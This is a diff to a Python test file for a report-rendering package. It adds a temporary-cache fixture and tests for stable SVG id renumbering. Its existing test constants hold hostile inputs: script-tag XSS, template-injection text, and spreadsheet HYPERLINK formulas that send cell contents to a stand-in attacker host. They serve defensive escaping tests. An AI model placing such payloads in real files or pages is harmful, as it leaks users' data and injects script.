@@ -22,20 +22,23 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from playbook.data_cache import CACHE_ENV
 from playbook.report import render_reports
 from playbook.report_html import (
     METRICS_MIMETYPE,
+    Html,
+    bundle,
     csv_text,
     is_passive_html,
     markdown_html,
     neutralise_formula,
     output_html,
     safe_slug,
+    stable_svg_ids,
     write_files_atomically,
 )
 from playbook.report_params import SAMPLE_DIR
 from playbook.report_runner import inject_parameters
-from playbook.report_sections import Html, bundle
 
 HOSTILE_ID = 'CP"4\'<script>alert(1)</script>\n{{ 7*7 }}=HYPERLINK("http://evil.example")'
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"go")<script>alert("name")</script></title>{{ x }}'
@@ -72,6 +75,14 @@ def _hostile_copy(directory: Path) -> Path:
     for name, frame in frames.items():
         frame.to_csv(directory / f"{name}.csv", index=False)
     return directory
+
+
+@pytest.fixture(scope="module", autouse=True)
+def private_cache(tmp_path_factory):
+    """This module's reports cache their data in a temporary directory, not in the user's cache."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv(CACHE_ENV, str(tmp_path_factory.mktemp("cache")))
+        yield
 
 
 @pytest.fixture(scope="module")
@@ -212,6 +223,31 @@ def test_section_markup_passes():
     assert bundle("<b>x</b>")["text/html"] == "<p>&lt;b&gt;x&lt;/b&gt;</p>"
     with pytest.raises(TypeError):
         bundle(object())
+
+
+def test_svg_ids_are_renumbered_in_order_of_appearance():
+    # vega's ids count every chart the kernel rendered before; a report must not depend on that history.
+    svg = (
+        '<svg><linearGradient id="gradient_7"/><clipPath id="clip3"/>'
+        '<rect fill="url(#gradient_7)" clip-path="url(#clip3)"/><use href="#clip3"/>'
+        "<text>gradient_7</text></svg>"
+    )
+    assert stable_svg_ids(svg) == (
+        '<svg><linearGradient id="svg-id-0"/><clipPath id="svg-id-1"/>'
+        '<rect fill="url(#svg-id-0)" clip-path="url(#svg-id-1)"/><use href="#svg-id-1"/>'
+        "<text>gradient_7</text></svg>"
+    )
+
+
+@given(st.lists(st.from_regex(r"[a-z]{1,6}_[0-9]{1,3}", fullmatch=True), min_size=1, max_size=6, unique=True))
+def test_svg_id_renumbering_keeps_every_reference(ids):
+    svg = "".join(f'<g id="{i}"/><rect fill="url(#{i})"/><use href="#{i}"/>' for i in ids)
+    once = stable_svg_ids(svg)
+    expected = [f"svg-id-{n}" for n in range(len(ids))]
+    assert re.findall(r'\bid="([^"]+)"', once) == expected
+    assert re.findall(r"url\(#([^)]+)\)", once) == expected
+    assert re.findall(r'href="#([^"]+)"', once) == expected
+    assert stable_svg_ids(once) == once
 
 
 def test_outputs_become_offline_html():
